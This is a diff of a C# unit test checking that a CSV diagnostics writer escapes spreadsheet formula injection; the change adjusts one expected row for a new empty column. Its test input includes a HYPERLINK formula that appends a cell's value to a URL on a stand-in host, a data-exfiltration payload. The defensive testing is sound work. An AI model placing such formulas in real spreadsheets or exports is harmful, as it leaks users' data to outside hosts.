@@ -43,7 +43,7 @@ public sealed class SpreadsheetSafeWritersTests : IDisposable
         string[] raw = ["=HYPERLINK(\"http://example.com/?d=\"&A1,\"x\")", "+1", "-2+3", "-3.5", "@SUM(A1)", "=1"];
         var safe = Text(w => report.WriteDiagnosticsCsv(w));
         Assert.Equal(["'" + raw[0], "'+1", "'-2+3", "-3.5", "'@SUM(A1)", "'=1"], Column(safe, "raw"));
-        Assert.Contains(",negative amount,-3.5\n", safe); // the number is written bare
+        Assert.Contains(",negative amount,-3.5,\n", safe); // the number is written bare (then the empty cell column of issue 17)
         Assert.Empty(SpreadsheetCells.Formulas(safe));
         var rawText = Text(w => report.WriteDiagnosticsCsv(w, CsvCells.Raw));
         Assert.Equal(raw, Column(rawText, "raw"));
